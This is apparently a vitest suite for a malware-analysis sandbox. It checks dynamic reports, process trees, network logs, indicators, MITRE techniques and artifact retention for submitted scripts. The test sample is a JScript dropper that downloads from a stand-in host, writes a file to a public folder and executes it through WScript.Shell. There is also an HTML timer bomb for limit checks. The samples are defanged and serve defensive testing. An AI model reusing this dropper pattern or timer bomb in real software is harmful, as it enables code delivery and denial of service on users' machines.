import { createHash } from 'node:crypto';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { DEFAULT_ENGINE_LIMITS } from '../../lib/engines/engine.ts';
import { reportOf } from '../../lib/engines/threads/worker.ts';
import { BehaviourPage, NetworkSummary, Processes, ProcessTree } from '../../lib/service/contract/v3-dynamic.ts';
import { openSqliteStore } from '../../lib/service/server/store/sqlite-store.ts';
import { fileForm, finished, type TestService, testService } from './scripted-service.ts';

const SCRIPT = `var h = new ActiveXObject('MSXML2.XMLHTTP'); h.open('GET', 'http://files.example/x', false); h.send();
var f = new ActiveXObject('Scripting.FileSystemObject').CreateTextFile('C:\\\\Users\\\\Public\\\\run.js'); f.Write('inert'); f.Close();
new ActiveXObject('WScript.Shell').Run('wscript.exe C:\\\\Users\\\\Public\\\\run.js');`;
const runner = { run: (task: Parameters<typeof reportOf>[0]) => reportOf(task, DEFAULT_ENGINE_LIMITS) };

async function submitScript(service: TestService, text: string, filename: string): Promise<string> {
  const response = await service.call('/submissions/sandbox', { method: 'POST', body: fileForm(text, {}, filename) });
  const { uuid } = (await response.json()) as { uuid: string };
  await service.queue.idle();
  return uuid;
}

describe('a script that was run', () => {
  const service = testService({ runner });
  let at = '';
  const json = async (path: string) => await (await service.call(`${at}${path}`)).json();
  beforeAll(async () => {
    at = `/submissions/${await submitScript(service, SCRIPT, 'order.js')}`;
  });

  test('has a completed dynamic report in the environment that ran it', async () => {
    const submission = await finished(service, at.replace('/submissions/', ''));
    expect(submission.reports[0]).toMatchObject({
      type: 'dynamic',
      status: 'completed',
      level: 'malicious',
      operatingSystem: { name: expect.stringContaining('emulation'), platform: 'windows' },
    });
    expect(submission.level).toBe('malicious');
  });

  test('shows its processes, as a list and as a tree', async () => {
    const { items } = Processes.parse(await json('/processes'));
    expect(items.map(({ name }) => name)).toEqual(['wscript.exe', 'wscript.exe']);
    expect(items[1]?.cmd).toBe('wscript.exe C:\\Users\\Public\\run.js');
    const { nodes } = ProcessTree.parse(await json('/processes/tree'));
    expect(nodes).toMatchObject([{ pid: items[0]?.pid, children: [{ pid: items[1]?.pid, children: [] }] }]);
  });

  test('shows what it did, with the filters of the request', async () => {
    const all = BehaviourPage.parse(await json('/behaviours'));
    expect(all.os).toBe('windows');
    const writes = BehaviourPage.parse(await json('/behaviours?operation=file-write'));
    expect(writes.items).toMatchObject([{ type: 'file', details: { target: 'C:\\Users\\Public\\run.js' } }]);
    expect(writes.total).toBeLessThan(all.total);
    expect(BehaviourPage.parse(await json('/behaviours?pid=1')).total).toBe(0);
  });

  test('shows its requests, and that nothing was sent', async () => {
    expect(NetworkSummary.parse(await json('/network/summary'))).toEqual({
      dnsCount: 1,
      httpCount: 1,
      tcpCount: 0,
      udpCount: 0,
      threatCount: 0,
      pcapAvailable: false,
    });
    expect(await json('/network/dns')).toMatchObject([{ host: 'files.example', type: 'A' }]);
    expect(await json('/network/http')).toMatchObject([{ host: 'files.example', port: 80 }]);
    const v1 = async (name: string) =>
      await (await service.call(`/public-api/get${at.replace('/submissions/', '/submission/')}/${name}`)).json();
    expect(await v1('dns')).toMatchObject({ dns: [{ host: 'files.example', type: 'A' }] });
    expect(await v1('http')).toMatchObject({ http: [{ host: 'files.example', port: 80 }] });
    expect(await json('/network/http?skip=1')).toEqual([]);
    for (const path of ['tcp', 'udp', 'threats']) expect(await json(`/network/${path}`)).toEqual([]);
    expect(await json('/syscalls')).toEqual({ items: [], total: 0 });
    const pcap = await service.call(`${at}/download/pcap`);
    expect([pcap.status, await pcap.json()]).toMatchObject([404, { code: 'ARTIFACT_NOT_FOUND' }]);
  });

  test('offers the file that it wrote', async () => {
    const { items } = (await json('/artifacts')) as {
      items: { id: string; type: string; hashes: { sha256: string } }[];
    };
    const dropped = items.find(({ type }) => type === 'dropped_file');
    expect(dropped?.hashes.sha256).toBe(createHash('sha256').update('inert').digest('hex'));
    const download = await service.call(`${at}/download/artifact/${dropped?.id}`);
    expect(await download.text()).toBe('inert');
  });

  test('counts in the summary, and names techniques and addresses to look for', async () => {
    expect(await json('/summary')).toMatchObject({ artifactCount: 2, network: { httpCount: 1 } });
    expect(((await json('/mitre')) as { techniques: string[] }).techniques).toContain('T1059');
    const { items } = (await json('/iocs')) as { items: { value: string }[] };
    expect(items.map(({ value }) => value)).toEqual(
      expect.arrayContaining(['http://files.example/x', 'files.example']),
    );
    const { items: indicators } = (await json('/indicators?category=behaviour')) as {
      items: { attackCodes: string[] }[];
    };
    expect(indicators[0]?.attackCodes.length).toBeGreaterThan(0);
  });

  test('says which process and which event showed a behaviour', async () => {
    const [host] = Processes.parse(await json('/processes')).items;
    const written = BehaviourPage.parse(await json('/behaviours?operation=file-write')).items[0];
    const { items } = (await json(`/indicators?pid=${host?.pid}`)) as { items: { id: string; eventIds: number[] }[] };
    expect(items.find(({ eventIds }) => eventIds.includes(written?.eventId ?? -1))).toBeDefined();
    expect(await json('/indicators?pid=1')).toMatchObject({ items: [], total: 0 });
  });

  test('lists a value once that both reports found', async () => {
    const { items } = (await json('/iocs')) as { items: { type: string; value: string }[] };
    const named = items.map(({ type, value }) => `${type} ${value}`);
    expect(named).toEqual([...new Set(named)]);
  });
});

test('a script that hits a limit says so in its report and on its page, and is not called harmless', async () => {
  const service = testService({ runner });
  const bomb = '<script>function t() { setTimeout(t, 9); setTimeout(t, 9) } t()</script>';
  const uuid = await submitScript(service, bomb, 'bomb.html');
  const { level, reports } = await finished(service, uuid);
  expect(level).not.toBe('benign');
  const dynamic = reports.find(({ type }) => type === 'dynamic');
  expect(dynamic?.findings).toContainEqual(
    expect.objectContaining({
      id: 'behaviour-limit-reached',
      description: expect.stringContaining('more than 3000 timers'),
    }),
  );
  const page = await (await service.call(`/submissions/${uuid}/download/html-report`)).text();
  expect(page).toContain('more than 3000 timers');
});

test.each(['a.ps1', 'a.vbs', 'a.bat'])(
  'an environment of Windows that is asked for is not made up: %s',
  async (name) => {
    const service = testService({ runner });
    const listed = await service.call('/config/environments');
    const offered = (await listed.json()) as { key: string; name: string; active: boolean }[];
    expect(offered.filter(({ active }) => active).map(({ key }) => key)).toEqual(['script_emulation']);
    expect(offered[0]?.name).toMatch(/emulat.*No Windows, no network/);
    const uuid = await submitScript(service, 'x = 1', name);
    const { reports, skippedReports, overview } = await finished(service, uuid);
    expect(reports.map(({ type }) => type)).toEqual(['static']);
    expect(skippedReports).toMatchObject([{ type: 'dynamic', reason: { code: 'no_environment' } }]);
    expect(skippedReports[0]?.reason.message).toContain('JavaScript alone is run');
    expect(overview?.jobs).toMatchObject({ total: 2, skipped: 1, failed: 0, finished: 2 });
  },
);

test('a file that nothing can run has no dynamic report, and says why', async () => {
  const service = testService({ runner });
  const submission = await finished(service, await submitScript(service, 'Write-Host 1', 'a.ps1'));
  expect(submission.reports).toMatchObject([{ type: 'static' }]);
  expect(submission.skippedReports).toMatchObject([
    { type: 'dynamic', reason: { code: 'no_environment', message: expect.stringContaining('PowerShell') } },
  ]);
});

describe('files that a script produced', () => {
  let folder = '';
  beforeAll(async () => {
    folder = await mkdtemp(join(tmpdir(), 'dynamic-'));
  });
  afterAll(async () => {
    await rm(folder, { recursive: true });
  });

  test('are kept while a submission needs them, and deleted with the last', async () => {
    const store = openSqliteStore(join(folder, 'store.db'));
    const service = testService({ runner, store });
    await submitScript(service, SCRIPT, 'one.js');
    await submitScript(service, `${SCRIPT} var other = 1;`, 'two.js');
    const dropped = createHash('sha256').update('inert').digest('hex');
    expect(await store.needs(dropped)).toBe(true);
    expect(await store.forgetOldest()).not.toContain(dropped);
    expect(await store.forgetOldest()).toContain(dropped);
    await store.close();
  });
});
